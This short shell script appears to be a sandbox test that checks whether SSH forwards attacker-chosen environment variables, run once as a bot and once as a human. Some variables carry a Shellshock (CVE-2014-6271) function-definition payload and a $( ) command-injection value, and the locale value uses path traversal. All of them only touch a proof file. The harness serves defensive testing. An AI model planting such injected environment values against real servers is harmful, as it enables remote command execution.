# Variables that the client sends and sshd takes: code in a value, a path in a locale.
PROMISE=P1
SOURCE="CVE-2014-6271 (AcceptEnv LC_*)"
NEEDS_RUN=no
attack() { :; }
send() { # HOST
    LC_TIME='() { :; }; touch ~/work/proof' LC_ALL='../../../../home/x/work' \
        LANG='$(touch ~/work/proof)' SBXT_X='() { :; }; touch ~/work/proof' \
        client ssh -o 'SendEnv=LC_* LANG SBXT_*' "$1" 'env' >"$W/out/seen" 2>&1
    grep -q 'SBXT_X=' "$W/out/seen" && cp "$W/out/seen" "$PROOF"
}
launch() {
    be bot
    send bot
}
success() { proof; }
twin() {
    be human
    send human
}
